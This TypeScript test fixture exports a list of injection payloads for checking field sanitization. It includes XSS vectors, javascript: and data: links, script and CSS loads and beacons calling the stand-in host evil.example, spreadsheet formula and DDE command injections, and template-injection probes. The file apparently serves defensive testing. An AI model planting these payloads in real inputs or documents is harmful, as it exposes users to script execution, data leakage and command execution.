/** What people try in a field: markup, script, links, formulas. Each carries a word that must still be readable. */
export const payloads: readonly string[] = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>', '<iframe src="javascript:alert(1)"></iframe>', '<body onload=alert(1)>', '<a href="javascript:alert(1)">click</a>',
  '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", '"onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>', '--><script>alert(1)</script>', ']]><script>alert(1)</script>', '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>', '<meta http-equiv=refresh content="0;url=//evil.example">', '<base href=//evil.example/>',
  '<form action=//evil.example><input name=a></form>', '<object data="data:text/html,x"></object>', '<embed src=x>', '<math><mtext><script>alert(1)</script></mtext></math>',
  '<details open ontoggle=alert(1)>', '<video><source onerror=alert(1)></video>', '<input onfocus=alert(1) autofocus>', '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)', '<scr\u0000ipt>alert(1)</scr\u0000ipt>', '[click](javascript:alert(1))', '[click](JaVaScRiPt:alert(1))', '[click](data:text/html;base64,PHNjcmlwdD4=)',
  '[click](vbscript:msgbox)', '![x](https://evil.example/beacon.png)', '<javascript:alert(1)>', '[ref]: javascript:alert(1)\n[ref]', '`<script>`', 'javascript:alert(1)',
  '=HYPERLINK("http://evil.example","x")', '+cmd|"/c calc"!A1', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', '${7*7}{{7*7}}', '%3Cscript%3Ealert(1)%3C/script%3E',
];
